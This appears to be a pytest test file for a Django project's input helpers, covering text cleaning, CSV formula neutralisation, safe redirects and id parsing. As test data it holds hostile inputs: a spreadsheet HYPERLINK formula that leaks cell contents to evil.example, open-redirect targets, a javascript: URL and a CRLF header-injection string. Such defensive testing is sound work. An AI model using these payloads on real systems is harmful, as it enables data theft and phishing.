"""The shared helpers for text people type, for exports, for redirects and for ids."""

import csv
import io

import pytest
from django.core.exceptions import BadRequest, ValidationError
from django.test import RequestFactory
from hypothesis import given, settings
from hypothesis import strategies as st

from gwd.http import MAX_ID, parse_id, parse_ids, parse_int, safe_next
from gwd.text import (
    BIDI_CONTROLS,
    PlainTextField,
    clean_text,
    csv_lines,
    spreadsheet_cell,
    strip_bidi,
)

# Every example is the same on every run.
fixed = settings(derandomize=True, max_examples=200, deadline=None, database=None)


# --- Bidirectional controls and control characters ---------------------------------------


@pytest.mark.parametrize("control", sorted(BIDI_CONTROLS))
def test_every_bidi_control_is_removed(control):
    assert strip_bidi(f"Umowa{control} ESCO") == "Umowa ESCO"
    assert clean_text(f"Umowa{control} ESCO") == "Umowa ESCO"


def test_the_listed_bidi_controls_are_all_there():
    expected = {0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)}
    assert {ord(c) for c in BIDI_CONTROLS} == expected


def test_strip_bidi_keeps_everything_else_as_written():
    body = "**Dzień dobry**\r\n\n  - punkt\t1 \u200d👩‍💻"
    assert strip_bidi(body) == body


def test_single_line_text_loses_line_breaks_nul_and_extra_space():
    assert clean_text("  Spotkanie\r\nGWD\x00 \t 2027\u2028 ") == "Spotkanie GWD 2027"


def test_multi_line_text_keeps_its_lines_with_one_kind_of_break():
    assert clean_text("a\r\nb\rc\u2029d\x00\u202e\n\te", multiline=True) == "a\nb\nc\nd\n\te"


def test_text_is_composed_so_the_same_letters_compare_equal():
    assert clean_text("Zielin\u0301ska") == "Zielińska"


def test_ukrainian_and_polish_letters_and_emoji_are_kept():
    text = "Громада Київ — Łódź, gmina Żółkiewka 👩‍💻"
    assert clean_text(text) == text


@fixed
@given(st.text())
def test_clean_text_never_leaves_a_control(text):
    for multiline in (False, True):
        cleaned = clean_text(text, multiline=multiline)
        assert not set(cleaned) & BIDI_CONTROLS
        assert "\x00" not in cleaned and "\r" not in cleaned
        assert clean_text(cleaned, multiline=multiline) == cleaned
    assert "\n" not in clean_text(text)


def test_a_plain_text_field_cleans_before_it_validates():
    field = PlainTextField(max_length=8)
    assert field.clean(" \u202eAnna\u202c\x00 ") == "Anna"
    with pytest.raises(ValidationError) as refused:
        field.clean("\u202e\u200f")
    assert refused.value.code == "required"
    multiline = PlainTextField(multiline=True, required=False)
    assert multiline.clean("a\r\n\u2066b") == "a\nb"


# --- Spreadsheet exports ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_a_cell_that_would_be_a_formula_is_text(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Marek Kowalski", "2027-01-01 10:00:00", "", " =1", 5, None])
def test_other_cells_are_unchanged(value):
    assert spreadsheet_cell(value) == value


def test_csv_lines_neutralise_every_cell():
    text = "".join(csv_lines([["=1+1", "ok"], ["a", "@x"]]))
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [["'=1+1", "ok"], ["a", "'@x"]]


# --- Where to go next -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/phish",
        "//evil.example/phish",
        "/\\evil.example",
        "javascript:alert(1)",
        "http://testserver.evil.example/",
        "",
        "-1",
        "groups:profile",
        "/groups/\r\nSet-Cookie: x=1",
        "/\x00",
    ],
)
def test_next_leaving_the_site_falls_back(target):
    request = RequestFactory().post("/", {"next": target})
    assert safe_next(request, "/fallback/") == "/fallback/"


def test_next_inside_the_site_is_followed():
    request = RequestFactory().post("/", {"next": "/groups/gwd/meetings/1/#actions"})
    assert safe_next(request, "/fallback/") == "/groups/gwd/meetings/1/#actions"
    assert safe_next(request, "/f/", value="https://evil.example/") == "/f/"
    assert safe_next(request, "/f/", value="http://testserver/x/") == "http://testserver/x/"


# --- Ids --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["", " ", "0", "-1", "1.0", "²", "١", "1e3", "x", "9" * 25, str(MAX_ID + 1), None]
)
def test_what_is_not_an_id(value):
    assert parse_id(value) is None


def test_ids():
    assert parse_id(" 42 ") == 42
    assert parse_id(str(MAX_ID)) == MAX_ID
    assert parse_ids(["3", "1", "3", ""]) == [3, 1]
    assert parse_int("0", minimum=0, maximum=900) == 0
    assert parse_int("901", minimum=0, maximum=900) is None
    with pytest.raises(BadRequest):
        parse_ids(["1", "9" * 25])
    with pytest.raises(BadRequest):
        parse_ids([str(i) for i in range(1, 12)], limit=10)


@fixed
@given(st.text(max_size=30))
def test_parse_id_answers_an_id_or_none_for_any_text(value):
    number = parse_id(value)
    assert number is None or 0 < number <= MAX_ID
